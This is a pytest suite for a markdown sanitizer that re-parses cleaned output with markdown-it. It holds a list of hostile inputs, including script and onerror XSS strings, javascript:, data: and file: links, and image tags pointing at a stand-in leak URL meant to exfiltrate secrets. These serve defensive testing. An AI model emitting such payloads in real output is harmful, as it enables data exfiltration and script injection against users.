"""The one sanitizer for outside text: every output is re-parsed with a CommonMark parser and checked.

The reference parse is markdown-it (CommonMark + GFM tables and strikethrough, as Streamlit renders);
the browser suite checks the same forms in Chromium against Streamlit's own renderer.
"""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from slm_lib.safe_text import MAX_DEPTH, is_safe_url, neutralize, one_line, plain

REFERENCE = MarkdownIt("commonmark").enable(["table", "strikethrough"])
EVIL = "http://127.0.0.1:9/leak?q=secret"

# Reliability checklist rows 8, 9, 10 and 26: forms written to get past a hand-written cleaner.
HOSTILE = {
    "script tag": "<script>alert(1)</script>",
    "img onerror": "<img src=x onerror=alert(1)>",
    "iframe": f"<iframe src='{EVIL}'></iframe>",
    "html block with markdown after": f"<div>\n![a]({EVIL})\n</div>",
    "javascript link": "[x](javascript:alert(1))",
    "javascript autolink": "<javascript:alert(1)>",
    "data link": "[x](data:text/html,<script>alert(1)</script>)",
    "data link parens": "[x](data:text/html,a((b)))",
    "vbscript link": "[x](vbscript:msgbox(1))",
    "file link": "[x](file:///etc/passwd)",
    "image": f"![pixel]({EVIL})",
    "image with title": f'![pixel]({EVIL} "title")',
    "image after escaped backtick": f"\\`![a]({EVIL})\\`",
    "image after escaped backticks both sides": f"\\`\\`![a]({EVIL})\\`\\`",
    "image in fence indented four spaces": f"    ```\n    ![a]({EVIL})\n    ```\n\n![b]({EVIL})",
    "image in tab-indented fence": f"\t```\n\t![a]({EVIL})\n\t```\n![b]({EVIL})",
    "fence closed by a longer fence": f"```\n![a]({EVIL})\n`````\n![b]({EVIL})",
    "fence closed by a different fence": f"~~~\n![a]({EVIL})\n```\n~~~~\n![b]({EVIL})",
    "backtick fence with backtick info": f"``` a`b\n![a]({EVIL})\n```",
    "reference-style image": f"![a][r]\n\n[r]: {EVIL}",
    "reference-style image, title": f'![a][r]\n\n[r]: <{EVIL}> "title"',
    "collapsed and shortcut refs": f"![r][] ![r]\n\n[r]: {EVIL}",
    "reference-style javascript": "[a][r]\n\n[r]: javascript:alert(1)",
    "reference on the next line": "[a][r]\n\n[r]:\n  data:text/html,hi",
    "angle-bracket destination": f"![a](<{EVIL}>)",
    "angle-bracket javascript": "[a](<javascript:alert(1)>)",
    "entity-encoded scheme": "[a](jav&#x61;script:alert(1))",
    "entity-encoded image url": "![a](h&#116;tp://127.0.0.1:9/x.png)",
    "escaped scheme": "[a](java\\script:alert(1))",
    "link title quotes": f'[a](https://ok.example "x\\" onmouseover=alert(1)") ![b]({EVIL} \'t\')',
    "image inside link": f"[![a]({EVIL})](https://ok.example)",
    "html inline in link text": "[<img src=x onerror=alert(1)>](https://ok.example)",
    "huge display math": "$$" + "\\frac{1}{2}" * 2000 + "$$",
    "math with href": "$\\href{javascript:alert(1)}{x}$ and $$\\includegraphics{" + EVIL + "}$$",
    "streamlit directives": ":red[x] :material/home: ::leaf[x]{src=" + EVIL + "}\n\n:::div\nx\n:::",
    "table with image": f"| a |\n|---|\n| ![a]({EVIL}) |",
    "code span with pipe in table": f"| a | b |\n|---|---|\n| `x|![a]({EVIL})` | y |",
    "deep quotes": "> " * 500 + f"![a]({EVIL})",
    "deep lists": "".join("  " * i + "- x\n" for i in range(60)) + f"![a]({EVIL})",
    "nul and surrogate": f"a\x00b\ud800 ![a]({EVIL})",
}


def tokens(md: str) -> list:
    """Every token of ``md`` as the reference parser sees it, inline children included."""
    out = []
    for token in REFERENCE.parse(md):
        out.append(token)
        out.extend(token.children or [])
    return out


def assert_inert(md: str, internal: bool = False) -> None:
    """No image, no raw HTML, no unescaped math and only http(s)/mailto links in ``md``.

    ``internal`` also allows the app's own page links (``/slm_vs_llm``), which pages write themselves.
    """
    lines = md.split("\n")
    for token in REFERENCE.parse(md):
        if token.type in ("fence", "code_block"):  # code is never math: blank it out for the $ check
            lines[token.map[0] : token.map[1]] = [""] * (token.map[1] - token.map[0])
    for token in tokens(md):
        assert token.type not in ("image", "html_inline", "html_block"), (token.type, md[:200])
        if token.type == "link_open":
            href = token.attrs["href"]
            assert re.match(r"(?i)(https?|mailto):", href) or (internal and re.fullmatch(r"/[a-z_]+", href)), href
    prose = re.sub(r"(?<![`\\])(`+)(?!`).*?(?<!`)\1(?!`)", "", "\n".join(lines))
    assert not re.search(r"(?<!\\)(?:\\\\)*\$", prose), "an unescaped $ could start math"


@pytest.mark.parametrize("raw", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_markdown_is_inert_when_reparsed(raw):
    safe = neutralize(raw)
    assert_inert(safe.text)
    assert "127.0.0.1:9/leak" not in "".join(t.attrs.get("src", "") for t in tokens(safe.text) if t.type == "image"), (
        "no image may point at the attacker"
    )


@pytest.mark.parametrize(
    "raw",
    [HOSTILE["script tag"], HOSTILE["img onerror"], HOSTILE["iframe"], "\\<b>bold?</b>"],
)
def test_raw_html_is_shown_as_text(raw):
    out = neutralize(raw).text
    (paragraph,) = [t for t in tokens(out) if t.type == "inline"]
    assert paragraph.content.replace("\\", "") == raw.replace("\\", "")  # the same characters, inert


@pytest.mark.parametrize(
    "raw",
    [
        HOSTILE["javascript link"],
        HOSTILE["data link"],
        HOSTILE["vbscript link"],
        HOSTILE["file link"],
        HOSTILE["reference-style javascript"],
        HOSTILE["angle-bracket javascript"],
        HOSTILE["entity-encoded scheme"],
        "[rel](/path) [frag](#x) [proto-relative](//evil.example/x)",
    ],
)
def test_only_http_and_mailto_links_stay_live(raw):
    out = neutralize(raw).text
    assert not [t for t in tokens(out) if t.type == "link_open"]
    low = out.lower().replace("\\", "")
    assert "javascript" not in low or "[" in low  # shown as text at most, never as a target


@pytest.mark.parametrize(
    ("raw", "href"),
    [
        ("[docs](https://docs.python.org/3/)", "https://docs.python.org/3/"),
        ("[mail](mailto:a@b.org)", "mailto:a@b.org"),
        ("[wiki](https://en.wikipedia.org/wiki/X_(y))", "https://en.wikipedia.org/wiki/X_(y)"),
        ("<https://example.org/a?b=1&c=2>", "https://example.org/a?b=1&c=2"),
        ("[r][ref]\n\n[ref]: https://example.org 'title'", "https://example.org"),
        ("[sp](<https://example.org/a b>)", "https://example.org/a%20b"),
    ],
)
def test_safe_links_are_kept_without_titles(raw, href):
    out = neutralize(raw).text
    links = [t for t in tokens(out) if t.type == "link_open"]
    assert [t.attrs["href"] for t in links] == [href]
    assert "title" not in links[0].attrs


def test_images_become_click_to_open_links():
    safe = neutralize(f"see ![chart]({EVIL}) and ![r][ref] ![d](data:image/png;base64,AAAA)\n\n[ref]: {EVIL}")
    links = [t for t in tokens(safe.text) if t.type == "link_open"]
    assert [t.attrs["href"] for t in links] == [EVIL, EVIL]
    assert "🖼 chart" in safe.text and "🖼 d" in safe.text and safe.images_converted == 3


def test_code_is_kept_verbatim_and_fenced_so_it_cannot_close_early():
    code = "<img src=x onerror=alert(1)>\n[x](javascript:y)\n```\n~~~\n$$x$$"
    out = neutralize(f"Use `<b>` and ``a`b``:\n\n~~~~html\n{code}\n~~~~\n").text
    fences = [t for t in tokens(out) if t.type == "fence"]
    assert [(f.info, f.content) for f in fences] == [("html", code + "\n")]
    spans = [t.content for t in tokens(out) if t.type == "code_inline"]
    assert spans == ["<b>", "a`b"]


def test_markdown_structure_survives_the_rebuild():
    raw = (
        "# Answer\n\nSome *em*, **strong**, ~~gone~~ and `code`.\n\n"
        "1. first\n2. second\n   - nested\n\n- a\n- b\n\n> quoted\n> text\n\n"
        "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n***\n\n    indented code\n\nline  \nbreak\n"
    )
    kinds = [t.type for t in tokens(neutralize(raw).text)]
    assert kinds == [t.type.replace("code_block", "fence") for t in tokens(raw)]  # indented code is fenced


def test_plain_text_reads_the_same_after_rendering():
    raw = 'The 3 > 2 rule, costs $5 & "quotes" (e.g. a_b*c) #1: done!'
    (inline,) = [t for t in tokens(neutralize(raw).text) if t.type == "inline"]
    assert inline.children[0].content == raw and len(inline.children) == 1


def test_length_cap_with_visible_marker_and_closed_fence():
    raw = "```python\n" + "x = 1\n" * 10_000
    safe = neutralize(raw, max_chars=500)
    assert safe.truncated and safe.original_chars == len(raw)
    assert "truncated: showing 500 of" in safe.text.replace("\\", "")
    fence = [t for t in tokens(safe.text) if t.type == "fence"]
    assert len(fence) == 1 and "truncated" not in fence[0].content  # the marker is outside the code
    assert len(safe.text) < 700


def test_default_cap_comes_from_settings():
    from slm_lib import settings as app_settings

    cap = app_settings.limits().max_answer_chars
    assert neutralize("a" * (cap + 1)).truncated and not neutralize("a" * cap).truncated


def test_control_characters_bidi_overrides_and_lone_surrogates():
    safe = neutralize("a\x00b\x07c \u202eevil \ud800 <|im_end|>")
    assert not re.search(r"[\x00\x07\u202e\ud800]", safe.text)
    assert "\ufffd" in safe.text and "\\<\\|im\\_end\\|\\>" in safe.text
    safe.text.encode("utf-8")  # renderable


def test_deep_nesting_is_flattened():
    out = neutralize("> " * 20 + "x").text
    assert [t.type for t in tokens(out)].count("blockquote_open") == MAX_DEPTH and out.endswith("x")
    out = neutralize("> " * 500 + "x").text  # deeper than any parser keeps: shown as text
    assert "blockquote_open" not in [t.type for t in tokens(out)] and out.endswith("x")
    listing = neutralize("".join("  " * i + "- x\n" for i in range(40))).text
    assert max(t.level for t in REFERENCE.parse(listing)) <= 2 * MAX_DEPTH + 2


@pytest.mark.parametrize(
    "raw",
    [
        "`" * 40_000,
        "[" * 40_000,
        "![" * 20_000,
        "[a" * 15_000 + "](x)" * 2_000,
        "](" * 20_000,
        "```\n" * 10_000,
        "$$" * 20_000,
        "<" * 40_000,
        "[a](" + "x" * 40_000,
        "*a" * 20_000,
    ],
    ids=["backticks", "brackets", "images", "nested", "closers", "fences", "dollars", "lt", "dest", "stars"],
)
def test_pathological_input_is_handled_and_bounded(raw):
    out = neutralize(raw, max_chars=40_000)
    assert len(out.text) <= 2 * 40_000 + 100  # escaping doubles punctuation at most
    assert_inert(out.text)


def test_is_safe_url():
    assert is_safe_url("https://x.org") and is_safe_url("mailto:a@b.org") and is_safe_url(" HTTP://x")
    assert not is_safe_url("\tjavascript:x") and not is_safe_url("DATA:text/html,x")
    assert not is_safe_url("relative/page") and not is_safe_url("") and not is_safe_url("jav&#x61;script:x")


@pytest.mark.parametrize(
    "raw",
    ["llama3.2:1b", "**bold** ![x](http://e.vil/p.png)", "# head\n- item", "<b>x</b> [l](javascript:x)", "1. one"],
)
def test_plain_labels_render_literally_on_one_line(raw):
    label = plain(raw)
    (inline,) = [t for t in tokens(label) if t.type == "inline"]
    assert [c.type for c in inline.children] == ["text"]
    assert inline.children[0].content == one_line(raw) and "\n" not in label


def test_one_line_caps_and_strips_controls():
    assert one_line("a\n\tb\x00\u202ec  d") == "a bc d"
    assert one_line("x" * 500, max_chars=10) == "x" * 9 + "…"


MARKDOWNISH = st.sampled_from([*"ab \n\t`~*_![]()<>:/\\#>-|$&;=\"'1.", "http:", "    ", "```", "javascript:"])


@settings(max_examples=300, deadline=None)
@given(st.lists(MARKDOWNISH, max_size=40).map("".join) | st.text(max_size=300))
def test_never_raises_and_output_is_always_inert(text):
    out = neutralize(text, max_chars=400).text
    assert_inert(out)
    assert_inert(plain(text))
